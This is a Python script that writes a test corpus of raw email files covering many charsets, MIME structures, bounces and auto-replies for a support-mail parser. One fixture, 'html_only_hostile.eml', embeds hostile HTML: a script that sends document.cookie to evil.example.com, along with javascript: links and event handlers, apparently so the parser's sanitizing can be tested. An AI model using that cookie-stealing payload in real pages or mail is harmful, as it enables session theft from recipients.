"""Writes the inbound mail corpus (tests/mail/*.eml): `python tests/mail/make_corpus.py`.

Each message is written byte for byte as the mailer named in README.md sends it: real charsets,
CRLF line ends, the header quirks real mail has. Re-running it gives the same files."""

import base64
import quopri
import struct
from pathlib import Path

HERE = Path(__file__).resolve().parent

# A 1x1 transparent PNG.
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)


def eml(*lines: str | bytes) -> bytes:
    """Join header and body lines with CRLF (bytes are kept as they are: raw 8-bit)."""
    return b"".join(
        (line.encode("ascii") if isinstance(line, str) else line) + b"\r\n" for line in lines
    )


def b64(data: bytes) -> list[str]:
    text = base64.b64encode(data).decode("ascii")
    return [text[i : i + 76] for i in range(0, len(text), 76)]


def word(text: str, charset: str = "UTF-8") -> str:
    """One RFC 2047 base64 encoded-word."""
    return f"=?{charset}?B?{base64.b64encode(text.encode(charset)).decode('ascii')}?="


def tnef(files: list[tuple[str, bytes]]) -> bytes:
    """A small real TNEF stream (winmail.dat) holding `files`, as Outlook writes one."""

    def record(level: int, attribute: int, kind: int, data: bytes) -> bytes:
        checksum = sum(data) & 0xFFFF
        return (
            struct.pack("<BHHI", level, attribute, kind, len(data))
            + data
            + struct.pack("<H", checksum)
        )

    out = struct.pack("<IH", 0x223E9F78, 0x0001)
    out += record(1, 0x9006, 0x0008, struct.pack("<I", 0x00010000))  # attTnefVersion
    out += record(1, 0x9007, 0x0006, struct.pack("<II", 1252, 0))  # attOemCodepage
    out += record(1, 0x8008, 0x0007, b"IPM.Microsoft Mail.Note\x00")  # attMessageClass
    for name, data in files:
        out += record(2, 0x9002, 0x0006, struct.pack("<HIIIHI", 1, 0xFFFFFFFF, 0, 0, 0, 0))
        out += record(2, 0x8010, 0x0001, name.encode("cp1252") + b"\x00")  # attAttachTitle
        out += record(2, 0x800F, 0x0006, data)  # attAttachData
    return out


def corpus() -> dict[str, bytes]:
    mails = {}

    mails["plain_utf8.eml"] = eml(
        "Return-Path: <anna@example.se>",
        "From: =?UTF-8?Q?Anna_=C3=85kesson?= <Anna@Example.SE>",
        "To: Support <support@hanbit.test>",
        'Cc: lars@example.se, "Berg, Lars" <lars.berg@example.se>',
        "Subject: Kan inte logga in",
        "Date: Mon, 07 Dec 2026 10:15:00 +0100",
        "Message-ID: <a1b2c3@mail.example.se>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8; format=flowed",
        "Content-Transfer-Encoding: quoted-printable",
        "",
        *quopri.encodestring(
            "Hej!\n\nJag kan inte logga in sedan i måndags. Lösenordet är "
            "rätt – det står ”fel lösenord” ändå.\n\nAnna\n".encode()
        )
        .decode("ascii")
        .split("\n"),
    )

    korean = "안녕하세요. 결제가 안 돼요.\n카드 등록 화면에서 멈춥니다.\n"
    mails["euc_kr.eml"] = eml(
        "From: =?EUC-KR?B?"
        + base64.b64encode("김민지".encode("euc-kr")).decode()
        + "?= <minji@example.kr>",
        "To: support@hanbit.test",
        "Subject: =?EUC-KR?B?" + base64.b64encode("결제 문의".encode("euc-kr")).decode() + "?=",
        "Date: Tue, 8 Dec 2026 09:00:00 +0900",
        "Message-ID: <20261208090000.1234@mail.example.kr>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=euc-kr",
        "Content-Transfer-Encoding: 8bit",
        "",
        *korean.encode("euc-kr").split(b"\n"),
    )

    # Outlook's label for Korean; 똠 and 햏 are in CP949 but not in EUC-KR.
    mails["ks_c_5601.eml"] = eml(
        "From: =?ks_c_5601-1987?B?"
        + base64.b64encode("박똠".encode("cp949")).decode()
        + "?= <ttom@example.kr>",
        "To: support@hanbit.test",
        "Subject: =?ks_c_5601-1987?B?"
        + base64.b64encode("똠방각하 환불".encode("cp949")).decode()
        + "?=",
        "Date: Tue, 8 Dec 2026 09:30:00 +0900",
        "Message-ID: <ks5601.42@outlook.example.kr>",
        "MIME-Version: 1.0",
        'Content-Type: text/plain; charset="ks_c_5601-1987"',
        "Content-Transfer-Encoding: base64",
        "",
        *b64("똠방각하님, 햏 환불 부탁드립니다.\r\n".encode("cp949")),
    )

    japanese = "お世話になっております。\n請求書の件でご連絡しました。\n"
    mails["iso_2022_jp.eml"] = eml(
        "From: =?ISO-2022-JP?B?"
        + base64.b64encode("山田太郎".encode("iso-2022-jp")).decode()
        + "?= <taro@example.jp>",
        "To: support@hanbit.test",
        "Subject: =?ISO-2022-JP?B?"
        + base64.b64encode("請求書について".encode("iso-2022-jp")).decode()
        + "?=",
        "Date: Wed, 9 Dec 2026 11:00:00 +0900",
        "Message-ID: <jis.777@example.jp>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=ISO-2022-JP",
        "Content-Transfer-Encoding: 7bit",
        "",
        *japanese.encode("iso-2022-jp").split(b"\n"),
    )

    mails["shift_jis.eml"] = eml(
        "From: suzuki@example.jp",
        "To: support@hanbit.test",
        "Subject: =?Shift_JIS?B?"
        + base64.b64encode("ログインできません".encode("shift_jis")).decode()
        + "?=",
        "Date: Wed, 9 Dec 2026 12:00:00 +0900",
        "Message-ID: <sjis.888@example.jp>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=Shift_JIS",
        "Content-Transfer-Encoding: 8bit",
        "",
        *"パスワードを忘れました。よろしくお願いします。\n".encode("shift_jis").split(b"\n"),
    )

    # An old Windows mailer: 8-bit body, no MIME headers at all.
    mails["windows_1252_no_charset.eml"] = eml(
        "From: Jos\xe9 <jose@example.com>".encode("cp1252"),
        "To: support@hanbit.test",
        "Subject: Invoice question",
        "Date: Thu, 10 Dec 2026 08:00:00 -0500",
        "Message-ID: <win1252.1@example.com>",
        "",
        "The \u201cPro\u201d plan costs 10\u20ac \u2013 is that right? Merci, Jos\xe9.".encode(
            "cp1252"
        ),
    )

    # One Korean character's bytes split across two encoded words, then Swedish in Q encoding.
    hangul = "환불 요청".encode()
    mails["subject_split_words.eml"] = eml(
        "From: minji@example.kr",
        "To: support@hanbit.test",
        "Subject: =?UTF-8?B?" + base64.b64encode(hangul[:4]).decode() + "?=",
        " =?UTF-8?B?" + base64.b64encode(hangul[4:]).decode() + "?= /",
        " =?ISO-8859-1?Q?=C5terbetalning_f=F6r_m=E5nad?=",
        "Date: Thu, 10 Dec 2026 09:00:00 +0900",
        "Message-ID: <split.1@example.kr>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "Refund please.",
    )

    mails["subject_raw_utf8.eml"] = eml(
        "From: 이서준 <seojun@example.kr>".encode(),
        "To: support@hanbit.test",
        "Subject: 비밀번호 재설정이 안 돼요".encode(),
        "Date: Thu, 10 Dec 2026 10:00:00 +0900",
        "Message-ID: <raw8.utf8@example.kr>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: 8bit",
        "",
        "메일이 오지 않습니다.".encode(),
    )

    mails["subject_raw_euc_kr.eml"] = eml(
        "From: support-kr@example.kr",
        "To: support@hanbit.test",
        "Subject: 배송 지연 문의".encode("euc-kr"),
        "Date: Thu, 10 Dec 2026 10:30:00 +0900",
        "Message-ID: <raw8.euckr@example.kr>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=euc-kr",
        "Content-Transfer-Encoding: 8bit",
        "",
        "주문한 상품이 아직 안 왔어요.".encode("euc-kr"),
    )

    mails["filename_rfc2231.eml"] = eml(
        "From: anna@example.se",
        "To: support@hanbit.test",
        "Subject: Kvitto",
        "Date: Fri, 11 Dec 2026 10:00:00 +0100",
        "Message-ID: <rfc2231.1@example.se>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="==b1=="',
        "",
        "--==b1==",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "Kvittot bifogas.",
        "--==b1==",
        "Content-Type: application/pdf",
        "Content-Disposition: attachment;",
        " filename*0*=utf-8''Kvitto%20f%C3%B6r%20;",
        " filename*1*=%C3%A5rsavgift%202026;",
        ' filename*2=".pdf"',
        "Content-Transfer-Encoding: base64",
        "",
        *b64(b"%PDF-1.4\n% receipt\n"),
        "--==b1==--",
    )

    # name==?UTF-8?B?...?= : an unquoted encoded-word, as some Korean webmail sends it.
    mails["filename_unquoted_encoded_word.eml"] = eml(
        "From: minji@example.kr",
        "To: support@hanbit.test",
        "Subject: =?UTF-8?B?" + base64.b64encode("견적서".encode()).decode() + "?=",
        "Date: Fri, 11 Dec 2026 11:00:00 +0900",
        "Message-ID: <unquoted.1@example.kr>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="----=_Part_1"',
        "",
        "------=_Part_1",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "견적서 보내드립니다.".encode(),
        "------=_Part_1",
        "Content-Type: application/vnd.ms-excel; name=" + word("견적서_2026.xls"),
        "Content-Disposition: attachment; filename=" + word("견적서_2026.xls"),
        "Content-Transfer-Encoding: base64",
        "",
        *b64(b"\xd0\xcf\x11\xe0 not really excel"),
        "------=_Part_1--",
    )

    mails["html_only_hostile.eml"] = eml(
        "From: Promo <news@example.com>",
        "To: support@hanbit.test",
        "Subject: Please check my order",
        "Date: Fri, 11 Dec 2026 12:00:00 +0000",
        "Message-ID: <html.only@example.com>",
        "MIME-Version: 1.0",
        "Content-Type: text/html; charset=utf-8",
        "Content-Transfer-Encoding: quoted-printable",
        "",
        *quopri.encodestring(
            b"<html><head><title>Order</title><style>p{color:red}</style></head>\n"
            b'<body onload="steal()"><p>Hello,</p><p>My order <b>#123</b> has not arrived.'
            b"<br>Details:</p>\n<ul><li>Blue mug</li><li>Red plate</li></ul>\n"
            b'<p><a href="https://shop.example.com/orders/123" onclick="track()">Order page'
            b'</a> <a href="javascript:alert(1)">click</a></p>\n'
            b'<img src="https://tracker.example.com/open.gif?u=42" width="1" height="1">\n'
            b"<script>document.location='https://evil.example.com/'+document.cookie</script>\n"
            b"</body></html>\n"
        )
        .decode("ascii")
        .split("\n"),
    )

    mails["alternative.eml"] = eml(
        "From: lars@example.se",
        "To: support@hanbit.test",
        "Subject: Faktura",
        "Date: Sat, 12 Dec 2026 09:00:00 +0100",
        "Message-ID: <alt.1@example.se>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/alternative; boundary="alt"',
        "",
        "--alt",
        "Content-Type: text/plain; charset=iso-8859-1",
        "Content-Transfer-Encoding: quoted-printable",
        "",
        "Fakturan f=F6r december saknas.",
        "--alt",
        "Content-Type: text/html; charset=iso-8859-1",
        "Content-Transfer-Encoding: quoted-printable",
        "",
        "<p>Fakturan f=F6r <b>december</b> saknas.</p>",
        "--alt--",
    )

    mails["related_inline_image.eml"] = eml(
        "From: designer@example.com",
        "To: support@hanbit.test",
        "Subject: Screenshot of the error",
        "Date: Sat, 12 Dec 2026 10:00:00 +0000",
        "Message-ID: <related.1@example.com>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/related; boundary="rel"; type="text/html"',
        "",
        "--rel",
        "Content-Type: text/html; charset=utf-8",
        "",
        '<p>See the error:</p><p><img src="cid:shot1@example.com" alt="error"></p>',
        "--rel",
        "Content-Type: image/png",
        "Content-Disposition: inline",
        "Content-ID: <shot1@example.com>",
        "Content-Transfer-Encoding: base64",
        "",
        *b64(PNG),
        "--rel--",
    )

    inner = eml(
        "From: billing@shop.example.com",
        "To: anna@example.se",
        "Subject: Your receipt 2026-118",
        "Date: Sun, 13 Dec 2026 08:00:00 +0000",
        "Message-ID: <receipt.118@shop.example.com>",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "Total: 120 SEK",
    )
    mails["nested_rfc822.eml"] = eml(
        "From: anna@example.se",
        "To: support@hanbit.test",
        "Subject: Fwd: receipt",
        "Date: Sun, 13 Dec 2026 09:00:00 +0100",
        "Message-ID: <fwd.1@example.se>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="fwd"',
        "",
        "--fwd",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "Forwarding the receipt.",
        "--fwd",
        "Content-Type: message/rfc822",
        "Content-Disposition: inline",
        "",
        inner,
        "--fwd--",
    )

    mails["winmail_dat.eml"] = eml(
        "From: Erik Lund <erik@corp.example.se>",
        "To: support@hanbit.test",
        "Subject: Avtal",
        "Date: Mon, 14 Dec 2026 08:00:00 +0100",
        "Message-ID: <tnef.1@corp.example.se>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="tnef"',
        "",
        "--tnef",
        "Content-Type: text/plain; charset=us-ascii",
        "",
        "The signed contract is attached.",
        "--tnef",
        'Content-Type: application/ms-tnef; name="winmail.dat"',
        'Content-Disposition: attachment; filename="winmail.dat"',
        "Content-Transfer-Encoding: base64",
        "",
        *b64(tnef([("avtal.txt", b"Avtal 2026\r\n"), ("logo.png", PNG)])),
        "--tnef--",
    )

    mails["broken_boundary.eml"] = eml(
        "From: minji@example.kr",
        "To: support@hanbit.test",
        "Subject: Cut off",
        "Date: Mon, 14 Dec 2026 09:00:00 +0900",
        "Message-ID: <broken.1@example.kr>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="never-closed"',
        "",
        "--never-closed",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "The first part arrives.",
        "--never-closed",
        "Content-Type: text/plain; charset=utf-8",
        'Content-Disposition: attachment; filename="log.txt"',
        "",
        "line one of the log",
        "line two of the log",
    )

    mails["long_line.eml"] = eml(
        "From: robot@example.com",
        "To: support@hanbit.test",
        "Subject: Log dump",
        "Date: Mon, 14 Dec 2026 10:00:00 +0000",
        "Message-ID: <long.1@example.com>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "start:" + "x" * 10_000 + ":end",
        "after the long line",
    )

    original = eml(
        "From: Hanbit Support <support@hanbit.test>",
        "To: gone@example.org",
        "Subject: [#42] Your request",
        "Message-ID: <out.42@hanbit.test>",
    )
    mails["bounce_dsn.eml"] = eml(
        "Return-Path: <>",
        "From: Mail Delivery System <MAILER-DAEMON@mx.hanbit.test>",
        "To: support@hanbit.test",
        "Subject: Undelivered Mail Returned to Sender",
        "Date: Mon, 14 Dec 2026 11:00:00 +0000",
        "Message-ID: <20261214110000.ABC@mx.hanbit.test>",
        "Auto-Submitted: auto-replied",
        "MIME-Version: 1.0",
        "Content-Type: multipart/report; report-type=delivery-status;",
        '\tboundary="DSN.1"',
        "",
        "--DSN.1",
        "Content-Description: Notification",
        "Content-Type: text/plain; charset=us-ascii",
        "",
        "I'm sorry to have to inform you that your message could not",
        "be delivered to one or more recipients.",
        "",
        "<gone@example.org>: host mx.example.org said: 550 5.1.1 <gone@example.org>:",
        "    Recipient address rejected: User unknown",
        "--DSN.1",
        "Content-Description: Delivery report",
        "Content-Type: message/delivery-status",
        "",
        "Reporting-MTA: dns; mx.hanbit.test",
        "Arrival-Date: Mon, 14 Dec 2026 10:59:58 +0000",
        "",
        "Final-Recipient: rfc822; Gone@example.org",
        "Original-Recipient: rfc822;Gone@Example.org",
        "Action: failed",
        "Status: 5.1.1",
        "Remote-MTA: dns; mx.example.org",
        "Diagnostic-Code: smtp; 550 5.1.1 <gone@example.org>: Recipient address rejected:",
        "    User unknown",
        "",
        "Final-Recipient: rfc822; slow@example.net",
        "Action: delayed",
        "Status: 4.4.1",
        "",
        "--DSN.1",
        "Content-Description: Undelivered Message Headers",
        "Content-Type: text/rfc822-headers",
        "",
        original,
        "--DSN.1--",
    )

    mails["out_of_office.eml"] = eml(
        "From: Lars Berg <lars.berg@example.se>",
        "To: support@hanbit.test",
        "Subject: =?UTF-8?Q?Fr=C3=A5nvarande:_Re:_[#42]_Your_request?=",
        "Date: Mon, 14 Dec 2026 12:00:00 +0100",
        "Message-ID: <ooo.1@example.se>",
        "Auto-Submitted: auto-replied",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "Jag är på semester till 4 januari.".encode(),
    )

    mails["exchange_oof.eml"] = eml(
        "From: Erik Lund <erik@corp.example.se>",
        "To: support@hanbit.test",
        "Subject: Automatic reply: [#42] Your request",
        "Date: Mon, 14 Dec 2026 12:30:00 +0100",
        "Message-ID: <oof.1@corp.example.se>",
        "X-Auto-Response-Suppress: All",
        "X-Autoreply: yes",
        "X-MS-Exchange-Inbox-Rules-Loop: erik@corp.example.se",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=us-ascii",
        "",
        "I am out of the office until January 4.",
    )

    mails["mailing_list.eml"] = eml(
        "From: Olle <olle@example.se>",
        "To: users@lists.example.org",
        "Subject: [users] Anyone else seeing timeouts?",
        "Date: Mon, 14 Dec 2026 13:00:00 +0100",
        "Message-ID: <list.1@example.se>",
        "List-Id: Users of the thing <users.lists.example.org>",
        "List-Unsubscribe: <mailto:users-leave@lists.example.org>",
        "Precedence: list",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "Since this morning the API times out for me.",
    )

    mails["reply_quoted_signature.eml"] = eml(
        "From: Anna <anna@example.se>",
        "To: Hanbit Support <support+t42.abcdef@hanbit.test>",
        "Subject: Re: [#42] Your request",
        "Date: Tue, 15 Dec 2026 08:00:00 +0100",
        "Message-ID: <CAB=reply.1@mail.gmail.com>",
        "In-Reply-To: <out.42@hanbit.test>",
        "References: <req.41@example.se>",
        " <out.42@hanbit.test>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "Thanks, that fixed it.",
        "",
        "On Mon, Dec 14, 2026 at 4:00 PM Hanbit Support <support@hanbit.test>",
        "wrote:",
        "",
        "> Please try again now.",
        ">",
        "> > I cannot log in.",
        "",
        "-- ",
        "Anna Åkesson, Example AB".encode(),
    )

    mails["outlook_reply.eml"] = eml(
        "From: Erik Lund <erik@corp.example.se>",
        "To: support@hanbit.test",
        "Subject: RE: [#42] Your request",
        "Date: Tue, 15 Dec 2026 09:00:00 +0100",
        "Message-ID: <AM0PR.outlook.1@corp.example.se>",
        "In-Reply-To: <out.42@hanbit.test>",
        "Thread-Topic: [#42] Your request",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "Yes, please close the ticket.",
        "",
        "Erik",
        "",
        "________________________________",
        "From: Hanbit Support <support@hanbit.test>",
        "Sent: Monday, December 14, 2026 4:00 PM",
        "To: Erik Lund <erik@corp.example.se>",
        "Subject: [#42] Your request",
        "",
        "Can we close this ticket?",
    )

    mails["no_message_id.eml"] = eml(
        "From: old-pc@example.com",
        "To: support@hanbit.test",
        "Subject: No id",
        "Date: Tue, 15 Dec 2026 10:00:00 +0000",
        "",
        "Sent by a mailer that adds no Message-ID.",
    )

    mails["no_from.eml"] = eml(
        "To: support@hanbit.test",
        "Subject: Who am I",
        "Date: Tue, 15 Dec 2026 11:00:00 +0000",
        "Message-ID: <nofrom.1@example.com>",
        "",
        "A message without a From header.",
    )
    return mails


def main() -> None:
    for name, data in corpus().items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    main()
